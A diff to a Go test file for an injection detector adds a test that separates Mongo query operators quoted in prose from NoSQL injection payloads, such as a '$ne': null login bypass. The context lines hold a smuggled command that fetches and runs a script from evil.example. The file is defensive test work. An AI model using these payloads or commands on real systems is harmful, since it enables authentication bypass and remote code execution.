@@ -89,3 +89,16 @@ func TestCommandsQuotedInProse(t *testing.T) {
 		{"query:file", "report.pdf; curl http://evil.example/x.sh | sh"},
 	})
 }
+
+// TestMongoQueriesQuotedInProse: an operator inside prose is documentation; a JSON
+// body or a form key carrying one is not.
+func TestMongoQueriesQuotedInProse(t *testing.T) {
+	d := newTestDetector(t)
+	wantClean(t, d, []valueCase{
+		{"body:text", `To find the adults in the collection you can filter on the field, e.g. {"age": {"$gt": 30}} — see the driver docs for the other operators and for indexes.`},
+	})
+	wantThreats(t, d, []valueCase{
+		{"body:json", `{"username": {"$ne": null}, "password": {"$ne": null}}`},
+		{"query:q", `{"$gt": ""}`},
+	})
+}
